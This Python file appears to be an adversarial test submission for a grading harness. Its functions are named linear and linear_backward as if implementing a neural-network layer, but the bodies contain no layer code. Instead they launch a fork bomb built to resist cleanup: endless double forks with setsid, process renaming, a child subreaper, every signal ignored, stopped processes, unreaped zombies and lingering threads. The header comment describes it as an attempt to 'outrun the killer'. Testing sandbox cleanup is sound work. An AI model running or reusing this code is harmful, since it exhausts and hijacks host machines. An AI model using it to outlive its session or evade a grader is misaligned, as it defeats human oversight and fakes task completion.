# Tries: outrun the killer: subreapers, double forks, sessions of their own, sixty threads, stopped and vforked children, zombies that nobody waits for, each born as its parent dies; honest outcome: linear 0; fork_bomb may be flagged; no process is left; other answers are graded
import ctypes
import os
import signal
import threading
import time

import numpy as np

_libc = ctypes.CDLL(None)


def _hop():
    while True:
        try:
            if os.fork():
                os._exit(0)
            os.setsid()
            _libc.prctl(15, b"python", 0, 0, 0)
        except OSError:
            continue


def _hold():
    _libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: orphans and zombies are ours
    _libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG off
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    for _ in range(8):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    os.kill(os.getpid(), signal.SIGSTOP)


def _start():
    for work in (_hop,) * 8 + (_hold,) * 3:
        try:
            if os.fork() == 0:
                work()
                os._exit(0)
        except OSError:
            break
    for _ in range(10):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break


def linear(x, w, b):
    _start()
    os._exit(7)


def linear_backward(dout, x, w):
    _start()
    return None
